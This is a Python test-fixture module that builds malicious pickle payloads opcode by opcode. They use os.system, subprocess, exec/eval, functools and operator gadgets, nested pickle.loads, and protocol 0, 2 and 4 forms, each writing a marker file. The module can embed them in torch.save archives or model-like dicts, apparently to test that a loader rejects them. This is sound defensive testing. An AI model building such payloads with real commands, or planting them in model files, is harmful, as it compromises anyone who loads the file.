"""Malicious pickles: payloads that run code when unpickled without ``weights_only=True``.

Each payload writes a marker file (the proof it ran) through a different door: ``os.system``,
``posix.system``, ``subprocess``, ``builtins.exec``/``eval``, ``builtins.open``, ``shutil``, a
``functools.partial`` or ``operator.methodcaller`` gadget, ``pathlib``, a nested ``pickle.loads``, in
protocol 2 (``GLOBAL``), protocol 4 (``STACK_GLOBAL``) or protocol 0 (``INST``). They are written
opcode by opcode, so nothing here runs them; :func:`wrap` puts one where a loader meets it: as the
``data.pkl`` of a ``torch.save`` zip archive, inside a dict that looks like a model file, or as a raw
pickle.
"""
from __future__ import annotations

import io
import struct
import zipfile


def _str(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b  # BINUNICODE


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _call(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)``: GLOBAL, MARK, the pickled args, TUPLE, REDUCE."""
    return _global(module, name) + b"(" + b"".join(args) + b"tR"


def _list(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"  # EMPTY_LIST, MARK, items, APPENDS


def payloads(marker: str) -> dict[str, bytes]:
    """``{name: pickle opcodes (no PROTO/STOP) that write the file marker when unpickled}``."""
    sh = f"touch '{marker}'"
    py = f"open({marker!r}, 'w').write('ran')"
    return {
        "os.system": _call("os", "system", _str(sh)),
        "posix.system": _call("posix", "system", _str(sh)),
        "subprocess.call": _call("subprocess", "call", _list(_str("touch"), _str(marker))),
        "subprocess.Popen": _call("subprocess", "Popen", _list(_str("touch"), _str(marker))),
        "builtins.exec": _call("builtins", "exec", _str(py)),
        "builtins.eval": _call("builtins", "eval", _str(py)),
        "builtins.open": _call("builtins", "open", _str(marker), _str("w")),
        "shutil.copyfile": _call("shutil", "copyfile", _str("/dev/null"), _str(marker)),
        "functools.partial": _global("functools", "partial") + b"(" + _global("os", "system")
        + _str(sh) + b"tR)R",
        "operator.methodcaller": _call("operator", "methodcaller", _str("touch")) + b"("
        + _call("pathlib", "Path", _str(marker)) + b"tR",
        "pickle.loads": _call("pickle", "loads", _bytes(b"\x80\x02" + _call("os", "system", _str(sh))
                                                        + b".")),
        "exec-import": _call("builtins", "exec", _str(f"import os; os.system({sh!r})")),
    }


def _bytes(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b  # BINBYTES


def stack_global(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: ``module.name(arg)`` through STACK_GLOBAL (names pushed as strings)."""
    return (b"\x8c" + bytes([len(module)]) + module.encode() + b"\x94" + b"\x8c" + bytes([len(name)])
            + name.encode() + b"\x94\x93" + _str(arg) + b"\x85R")


def pickles(marker: str) -> dict[str, bytes]:
    """``{name: a complete pickle}`` for every payload: protocol 2 ones, plus ``stack-global``
    (protocol 4) and ``inst`` (protocol 0)."""
    out = {name: b"\x80\x02" + body + b"." for name, body in payloads(marker).items()}
    out["stack-global"] = b"\x80\x04" + stack_global("os", "system", f"touch '{marker}'") + b"."
    out["inst"] = b"(S'touch " + marker.encode() + b"'\nios\nsystem\n."
    return out


WRAPPINGS = ("zip", "zip-in-model-dict", "raw")


def wrap(pickled: bytes, how: str, model_file: bytes) -> bytes:
    """A file holding ``pickled``: a ``torch.save`` archive's ``data.pkl`` (``zip``), the same inside a
    dict with the model file's format marker and a netdef (``zip-in-model-dict``), or the pickle
    alone (``raw``)."""
    if how == "zip-in-model-dict":
        proto, body = (pickled[:2], pickled[2:-1]) if pickled[:1] == b"\x80" else (b"\x80\x02", pickled[:-1])
        pickled = (proto + b"}(" + _str("format") + _str("compress-model") + _str("version") + b"K\x01"
                   + _str("netdef") + _str('name: "x"\ninput: "data"\ninput_dim: 1\ninput_dim: 1\n'
                                           'input_dim: 2\ninput_dim: 2\n')
                   + _str("blobs") + b"}" + _str("meta") + body + b"u.")
    if how == "raw":
        return pickled
    return replace_pickle(model_file, pickled)


def replace_pickle(archive: bytes, pickled: bytes) -> bytes:
    """``archive`` (a ``torch.save`` zip) with its ``data.pkl`` replaced by ``pickled``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = pickled if info.filename.endswith("data.pkl") else src.read(info)
            dst.writestr(info.filename, data)
    return out.getvalue()
